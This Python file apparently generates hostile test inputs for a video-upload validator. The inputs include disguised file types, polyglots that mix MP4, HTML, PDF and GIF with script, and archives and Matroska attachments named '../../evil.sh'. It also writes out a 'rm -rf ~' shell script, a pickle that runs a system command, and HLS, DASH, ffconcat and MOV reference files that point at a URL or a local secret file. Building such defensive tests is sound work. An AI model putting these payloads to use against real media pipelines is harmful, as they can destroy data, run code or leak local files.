"""Other types under the name of a video, two types at once, and lists that name other files or addresses."""

import gzip
import io
import random
import struct
import tarfile
import wave
import zipfile
from collections.abc import Iterator
from fractions import Fraction
from typing import Any

import av
import numpy as np

from validation.hostile.clips import boxes_of, encoded
from validation.hostile.kinds import Hostile

__all__ = ["disguised", "pointing"]

_U32 = struct.Struct(">I").pack
_HTML = b"<!doctype html><script>fetch('/api/clips').then(r=>r.text()).then(alert)</script>"
_TYPES = {
    "text": b"This is a video.\n" * 60,
    "HTML": _HTML,
    "JSON": b'{"schema": "hiphinge.analysis/1"}',
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "PDF": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "a program of Linux": b"\x7fELF\x02\x01\x01" + bytes(400),
    "a program of Windows": b"MZ" + bytes(400),
    "a shell script": b"#!/bin/sh\nrm -rf ~\n",
    "pickled Python": b"\x80\x04cposix\nsystem\n\x8c\x02id\x85R.",
    "SQLite": b"SQLite format 3\x00" + bytes(600),
    "HEIC": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(600),
    "AVIF": b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00mif1avif" + bytes(600),
    "JPEG": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(600),
    "subtitles": b"1\n00:00:01,000 --> 00:00:02,000\n<b>hinge</b>\n\n" * 20,
    "styled subtitles": b"[Script Info]\n"
    b"ScriptType: v4.00+\n[Events]\nDialogue: 0,0:00:01.00,0:00:02.00,,,0,0,0,,hinge\n",
    "one nought": b"\x00",
    "noughts": bytes(4096),
    "ones": b"\xff" * 4096,
    "four bytes": b"ftyp",
    "the head of a video alone": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2",
    "the head of Matroska alone": b"\x1a\x45\xdf\xa3",
    "the head of AVI alone": b"RIFF\xff\xff\xff\xffAVI LIST",
    "the head of FLV alone": b"FLV\x01\x05\x00\x00\x00\x09",
    "the head of Ogg alone": b"OggS",
    "the head of ASF alone": b"\x30\x26\xb2\x75\x8e\x66\xcf\x11",
    "the head of MPEG alone": b"\x00\x00\x01\xba",
    "the head of GIF alone": b"GIF89a",
}


def disguised(clips: dict[str, bytes], source: random.Random) -> Iterator[Hostile]:
    """Yield other types, and files of two types."""
    for name, content in _TYPES.items():
        yield Hostile(f"type: {name}", content)
    yield Hostile("type: noise", source.randbytes(5_000))
    yield Hostile("type: noise after the head of a video", clips["mp4"][:32] + source.randbytes(5_000))
    yield Hostile("type: ZIP", _zip())
    yield Hostile("type: gzip", gzip.compress(clips["mp4"]))
    yield Hostile("type: tar with a name that leads out", _tar())
    yield Hostile("type: WAV", _wav())
    yield Hostile("type: sound alone in MP4", _sound("mp4", "aac"))
    yield Hostile("type: sound alone in Matroska", _sound("matroska", "aac"))
    yield Hostile("type: sound alone in MPEG-TS", _sound("mpegts", "mp2"))
    yield Hostile("type: a single frame", _single())
    yield Hostile("type: subtitles alone in MP4", _only_text(clips["mp4"]))
    yield Hostile("type: Matroska with a file attached as ../../evil.sh", _attached(clips["mkv"]))
    yield from _two_types(clips)


def _two_types(clips: dict[str, bytes]) -> Iterator[Hostile]:
    mp4 = clips["mp4"]
    after = boxes_of(mp4)
    head = next(after).size
    hidden = _U32(8 + len(_HTML)) + b"free" + _HTML
    yield Hostile("two types: MP4 with HTML at its end", mp4 + _HTML)
    yield Hostile("two types: MP4 with a ZIP at its end", mp4 + _zip())
    yield Hostile("two types: MP4 with a PDF at its end", mp4 + _TYPES["PDF"])
    yield Hostile("two types: MP4 with a second video at its end", mp4 + mp4)
    yield Hostile("two types: HTML before the video", hidden + mp4)
    yield Hostile("two types: HTML that begins like a video", b"<!--ftypisom-->" + _HTML + mp4[head:])
    yield Hostile("two types: a script that begins like GIF", b"GIF89a=1;/*" + clips["gif"][11:] + b"*/;alert(1)")
    yield Hostile("two types: AVI and HTML", clips["avi"][:12] + _HTML + clips["avi"][12:])
    yield Hostile("two types: Matroska and HTML", clips["mkv"] + _HTML)
    yield Hostile("two types: MP4 called .html", mp4, "clip.html")
    yield Hostile("two types: MP4 called .m3u8", mp4, "list.m3u8")


def pointing(clips: dict[str, bytes], url: str, secret: str) -> Iterator[Hostile]:
    """Yield files that name an address or a file of this machine, also disguised as what is taken."""
    lists = _lists(url, secret)
    for name, content in lists.items():
        yield Hostile(f"points: {name}", content)
        yield Hostile(f"points: {name}, begins like MPEG-TS", _like_transport(content))
        yield Hostile(
            f"points: {name}, begins like a video", b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isom\n" + content
        )
    for name in ("HLS of a file", "HLS of an address", "pieces of a file"):
        yield Hostile(f"points: {name}, as subtitles of AVI", _as_subtitles(clips["avi"], lists[name]))
    mov = clips["mov"]
    for name, target in (("an address", url), ("a file", f"file://{secret}")):
        yield Hostile(f"points: MOV whose frames are in {name}", _elsewhere(mov, b"url ", target.encode() + b"\x00"))
        yield Hostile(f"points: MOV with an alias to {name}", _elsewhere(mov, b"alis", _alias(secret)))
        yield Hostile(f"points: MOV that is a reference to {name}", _reference(mov, target))


def _lists(url: str, secret: str) -> dict[str, bytes]:
    hls = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{}\n#EXT-X-ENDLIST\n"
    sdp = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    sdp += "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" '
        'bandwidth="1"><BaseURL>{}</BaseURL></Representation></AdaptationSet></Period></MPD>'
    )
    texts = {
        "HLS of an address": hls.format(f"{url}/a.ts"),
        "HLS of a file": hls.format(f"file://{secret}"),
        "HLS of pieces of a file": hls.format(f"concat:{url}/h|subfile,,start,0,end,64,,:{secret}"),
        "HLS with a key at an address": hls.replace(
            "#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/k"\n#EXTINF'
        ).format("a.ts"),
        "pieces of a file": f"ffconcat version 1.0\nfile '{secret}'\n",
        "pieces of an address": f"ffconcat version 1.0\nfile '{url}/a.mp4'\n",
        "SDP": sdp,
        "DASH of an address": dash.format(f"{url}/a.mp4"),
        "DASH of a file": dash.format(f"file://{secret}"),
        "RTSP text": f"rtsptext\n{url.replace('http', 'rtsp')}/a\n",
        "ASX": f'<asx version="3.0"><entry><ref href="{url}/a.asf"/></entry></asx>',
        "Real Media list": f"{url}/a.rm\n",
        "M3U of a file": f"{secret}\n",
        "shortcut of Windows": f"[InternetShortcut]\nURL={url}\n",
    }
    return {name: text.encode() for name, text in texts.items()}


def _like_transport(content: bytes) -> bytes:
    """Return content between two bytes that begin packets of a transport stream."""
    padded = b"G\n" + content.ljust(186, b"\n")
    return padded[:188] + b"G" + padded[188:] + b"\n" * 200 if len(padded) > 188 else padded + b"G" + b"\n" * 400  # noqa: PLR2004  # a packet


def _as_subtitles(avi: bytes, content: bytes) -> bytes:
    """Return an AVI file with a stream of text whose first packet is a whole file (GAB2), which readers open."""
    name = "x".encode("utf-16-le")
    gab2 = b"GAB2\x00" + struct.pack("<HI", 2, len(name)) + name + struct.pack("<HI", 4, len(content)) + content
    stream = struct.pack("<4s4sIHHIIIIIIIIHHHH", b"txts", b"\0\0\0\0", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 0, 0)
    strl = _riff(b"LIST", b"strl" + _riff(b"strh", stream) + _riff(b"strf", b""))
    header = avi.find(b"hdrl") + 4
    size = struct.unpack("<I", avi[header - 8 : header - 4])[0]
    end = header - 4 + size
    changed = bytearray(avi[:end] + strl + avi[end:])
    changed[header - 8 : header - 4] = struct.pack("<I", size + len(strl))
    at = header + 8 + 24
    changed[at : at + 4] = struct.pack("<I", 2)
    movi = changed.find(b"movi") + 4
    packet = _riff(b"01tx", gab2)
    changed[movi - 8 : movi - 4] = struct.pack("<I", struct.unpack("<I", changed[movi - 8 : movi - 4])[0] + len(packet))
    return bytes(changed[:movi]) + packet + bytes(changed[movi:])


def _riff(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\x00" * (len(body) % 2)


def _elsewhere(mov: bytes, kind: bytes, body: bytes) -> bytes:
    """Return a file whose table of data references names something else; what follows is moved by free room."""
    box = next(one for one in boxes_of(mov) if one.kind == b"dref")
    entry = _U32(12 + len(body)) + kind + bytes(4) + body
    dref = _U32(16 + len(entry)) + b"dref" + bytes(4) + _U32(1) + entry
    more = len(dref) - box.size
    changed = bytearray(mov[: box.at] + dref + mov[box.at + box.size :])
    for one in boxes_of(mov):
        if one.at < box.at < one.at + one.size:
            changed[one.at : one.at + 4] = _U32(one.size + more)
    return bytes(changed)


def _alias(secret: str) -> bytes:
    path = secret.encode()
    body = bytearray(150)
    body[4:6], body[8 + 2 : 8 + 3] = b"\x00\x02", bytes([4])
    body += struct.pack(">HH", 2, len(path)) + path + b"\x00" * (len(path) % 2)
    return bytes(body) + struct.pack(">hH", -1, 0)


def _reference(mov: bytes, target: str) -> bytes:
    address = target.encode() + b"\x00"
    rdrf = bytes(4) + b"url " + _U32(len(address)) + address
    rmda = _U32(len(rdrf) + 8) + b"rdrf" + rdrf
    rmra = _U32(len(rmda) + 8) + b"rmda" + rmda
    moov = _U32(len(rmra) + 8) + b"rmra" + rmra
    head = next(boxes_of(mov)).size
    return mov[:head] + _U32(len(moov) + 8) + b"moov" + moov


def _zip() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr("../../evil.sh", "id")
    return kept.getvalue()


def _tar() -> bytes:
    kept = io.BytesIO()
    with tarfile.open(fileobj=kept, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../evil.sh"))
    return kept.getvalue()


def _wav() -> bytes:
    kept = io.BytesIO()
    with wave.open(kept, "wb") as sound:
        sound.setparams((1, 2, 8000, 0, "NONE", ""))
        sound.writeframes(bytes(16_000))
    return kept.getvalue()


def _sound(container: str, codec: str) -> bytes:
    kept = io.BytesIO()
    with av.open(kept, "w", format=container) as output:
        stream: Any = output.add_stream(codec, rate=48_000)
        for number in range(20):
            layout = "fltp" if codec == "aac" else "s16"
            kind = np.float32 if codec == "aac" else np.int16
            shape = (1, 1024 if codec == "aac" else 1152)
            frame: Any = av.AudioFrame.from_ndarray(np.zeros(shape, kind), format=layout, layout="mono")
            frame.sample_rate, frame.pts, frame.time_base = 48_000, number * shape[1], Fraction(1, 48_000)
            output.mux(stream.encode(frame))
        output.mux(stream.encode())
    return kept.getvalue()


def _single() -> bytes:
    return encoded("mp4", "libx264", "yuv420p", frames=1)


def _only_text(mp4: bytes) -> bytes:
    return mp4.replace(b"vide", b"sbtl", 1).replace(b"avc1", b"tx3g", 1)


def _attached(mkv: bytes) -> bytes:
    """Return a Matroska file with an attachment after its last cluster."""

    def element(id_: str, body: bytes) -> bytes:
        return bytes.fromhex(id_) + struct.pack(">Q", 1 << 56 | len(body)) + body

    file = (
        element("466e", b"../../evil.sh")
        + element("4660", b"text/x-sh")
        + element("465c", b"id")
        + element("46ae", b"\x01")
    )
    return mkv + element("1941a469", element("61a7", file))
